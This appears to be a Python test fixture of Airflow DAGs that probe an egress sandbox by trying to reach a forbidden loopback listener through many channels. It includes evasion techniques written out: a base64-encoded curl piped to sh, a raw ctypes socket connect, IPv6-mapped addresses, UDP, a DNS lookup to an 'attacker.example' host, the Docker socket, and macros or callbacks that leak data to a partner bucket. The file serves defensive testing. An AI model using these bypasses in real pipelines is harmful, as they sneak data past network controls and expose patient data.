"""DAGs that really run: code that reaches our own listener, and code that tries the stranger in every way it can.

`fhir.chu.example` is 127.0.0.2, every other name 127.0.0.4: the test's resolver says so, and its listener counts.
"""

import ctypes
import os
import socket
import subprocess
import sys
import threading
from base64 import b64encode
from contextlib import suppress
from pathlib import Path

from airflow.providers.amazon.aws.operators.s3 import S3CreateObjectOperator
from airflow.providers.http.operators.http import HttpOperator
from airflow.providers.standard.operators.bash import BashOperator
from airflow.providers.standard.operators.python import ExternalPythonOperator, PythonOperator
from airflow.sdk import task
from corpus import passed, runs

PORT = int(os.environ["DOORS_PORT"])
OWN, ABROAD = f"http://fhir.chu.example:{PORT}/x", f"http://drop.partner.example:{PORT}/x"
STRANGER = ("127.0.0.4", PORT)


def fetch(address):
    import requests

    return requests.get(address, timeout=5).status_code


def external():
    import os
    import urllib.request

    return urllib.request.urlopen(f"http://127.0.0.4:{os.environ['DOORS_PORT']}/", timeout=5).status


def harmless():
    return 6 * 7


def s3_client():
    import boto3
    from botocore.config import Config

    boto3.client(
        "s3",
        endpoint_url=f"http://127.0.0.4:{PORT}",
        aws_access_key_id="k",
        aws_secret_access_key="s",
        region_name="eu-west-3",
        config=Config(retries={"total_max_attempts": 1}, s3={"addressing_style": "path"}),
    ).put_object(Bucket="us-research", Key="x", Body=b"x")


def s3_hook():
    from airflow.providers.amazon.aws.hooks.s3 import S3Hook

    S3Hook("s3_listening_abroad").load_string("x", "x", "us-research")


def postgres_hook():
    from airflow.providers.postgres.hooks.postgres import PostgresHook

    PostgresHook("pg_listening_abroad").get_first("select 1")


def http_hook(conn_id):
    from airflow.providers.http.hooks.http import HttpHook

    return HttpHook("GET", http_conn_id=conn_id).run("x").status_code


def ssh_hook():
    from airflow.providers.ssh.hooks.ssh import SSHHook

    SSHHook(ssh_conn_id="ssh_listening_abroad", banner_timeout=2, conn_timeout=2).get_conn()


def mail():
    import smtplib

    smtplib.SMTP(*STRANGER, timeout=5)


def ftp():
    import ftplib

    ftplib.FTP().connect(*STRANGER, timeout=5)  # noqa: S321 - it must not come there


def arrow():
    from pyarrow.fs import S3FileSystem

    S3FileSystem(
        access_key="k", secret_key="s", scheme="http", endpoint_override=f"127.0.0.4:{PORT}", connect_timeout=2
    ).get_file_info("us-research/x")


def grpc_channel():
    import grpc

    grpc.channel_ready_future(grpc.insecure_channel(f"127.0.0.4:{PORT}")).result(timeout=2)


def by_ctypes():
    libc = ctypes.CDLL(None, use_errno=True)
    raw = socket.AF_INET.to_bytes(2, "little") + PORT.to_bytes(2, "big") + bytes([127, 0, 0, 4]) + bytes(8)
    with socket.socket() as one:
        libc.connect(one.fileno(), raw, len(raw))


def in_a_thread():
    def run():
        with suppress(OSError):
            socket.create_connection(STRANGER, timeout=2)

    threads = [threading.Thread(target=run) for _ in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def in_a_child():
    subprocess.run([sys.executable, "-c", f"import socket; socket.create_connection({STRANGER})"], check=False)


def asynchronous():
    import asyncio

    asyncio.run(asyncio.wait_for(asyncio.open_connection(*STRANGER), 5))


def mapped_address():
    with socket.socket(socket.AF_INET6) as one:
        one.connect(("::ffff:127.0.0.4", PORT))


def datagram():
    with suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.sendto(b"x", STRANGER)


def tunnel():
    with suppress(OSError):
        socket.getaddrinfo("1850275123456.attacker.example", 443)


def docker():
    with suppress(FileNotFoundError), socket.socket(socket.AF_UNIX) as one:
        one.connect(os.environ["DOORS_SOCKET"])


def asks_for_itself():
    """What door 2 does after a decision, done by an author without one."""
    from pipeline.airflow import kernel

    with suppress(kernel.DoorViolated):
        kernel.allow([kernel.Opening(*STRANGER)])
    with suppress(OSError):
        socket.create_connection(STRANGER, timeout=2)


TRIES = {
    "run_asks_for_itself": asks_for_itself,
    "run_requests": lambda: fetch(ABROAD),
    "run_requests_by_address": lambda: fetch(f"http://127.0.0.4:{PORT}/"),
    "run_boto": s3_client,
    "run_s3_hook": s3_hook,
    "run_postgres_hook": postgres_hook,
    "run_http_hook": lambda: http_hook("http_listening_abroad"),
    "run_ssh_hook": ssh_hook,
    "run_mail": mail,
    "run_ftp": ftp,
    "run_arrow": arrow,
    "run_grpc": grpc_channel,
    "run_ctypes": by_ctypes,
    "run_threads": in_a_thread,
    "run_child": in_a_child,
    "run_asyncio": asynchronous,
    "run_mapped_address": mapped_address,
    "run_datagram": datagram,
    "run_tunnel": tunnel,
    "run_unix_socket": docker,
    "run_http_hook_own": lambda: http_hook("http_listening"),
    "run_requests_own": lambda: fetch(OWN),
    "run_file": lambda: Path(os.environ["DOORS_FILE"]).write_text("x"),
}
for name, call in TRIES.items():
    with runs(name):
        PythonOperator(task_id="t", python_callable=call)

COMMANDS = {
    "run_bash_own": f"curl -fsS {OWN}",
    "run_bash_base64": f"echo {b64encode(f'curl -m 2 http://127.0.0.4:{PORT}/'.encode()).decode()} | base64 -d | sh; true",
    "run_bash_python": f'{sys.executable} -c "import socket; socket.create_connection({STRANGER})"',
    "run_bash_default_value": f"curl -m 2 ${{WHERE:-http://127.0.0.4:{PORT}/}} || true",
    "run_bash_script": "bash $DOORS_SCRIPT; true",
    "run_bash_harmless": "set -e; echo hello | tr a-z A-Z | sha256sum",
}
for name, command in COMMANDS.items():
    with runs(name):
        BashOperator(task_id="t", bash_command=command, append_env=True)

with runs("run_http_operator"):
    HttpOperator(task_id="t", http_conn_id="http_listening", endpoint="x", method="GET")

with runs("run_http_operator_abroad"):
    HttpOperator(task_id="t", http_conn_id="http_listening_abroad", endpoint="x", method="POST", data="x")

with runs("run_s3_operator"):
    S3CreateObjectOperator(task_id="t", s3_bucket="lac", s3_key="x", data="x", replace=True, aws_conn_id="s3_listening")

with runs("run_external_python"):
    ExternalPythonOperator(task_id="t", python=sys.executable, python_callable=harmless, expect_airflow=False)

with runs("run_external_python_abroad"):
    ExternalPythonOperator(task_id="t", python=sys.executable, python_callable=external, expect_airflow=False)

with runs("run_macro", user_defined_macros={"leak": lambda: fetch(ABROAD)}):
    BashOperator(task_id="t", bash_command="echo {{ leak() }}")

with runs("run_callback"):
    PythonOperator(task_id="t", python_callable=harmless, on_success_callback=lambda _context: fetch(ABROAD))

with runs("run_bash_decorated"):

    @task.bash(task_id="t")
    def command():
        return f"curl -m 2 http://127.0.0.4:{PORT}/; true"

    command()

with runs("run_mapped"):

    @task(task_id="t")
    def visit(address):
        return fetch(address)

    visit.expand(address=[OWN, ABROAD])

with runs("run_handed_on"):

    @task
    def make():
        return "s3://us-research/x"

    S3CreateObjectOperator(task_id="t", s3_key=make(), data="x", aws_conn_id="aws_paris")

with runs("mapped_over_what_a_task_returns"):

    @task
    def buckets():
        return ["chu-paris", "us-research"]

    S3CreateObjectOperator.partial(
        task_id="t", s3_key="x", data="x", aws_conn_id="aws_paris", pre_execute=passed
    ).expand(s3_bucket=buckets())
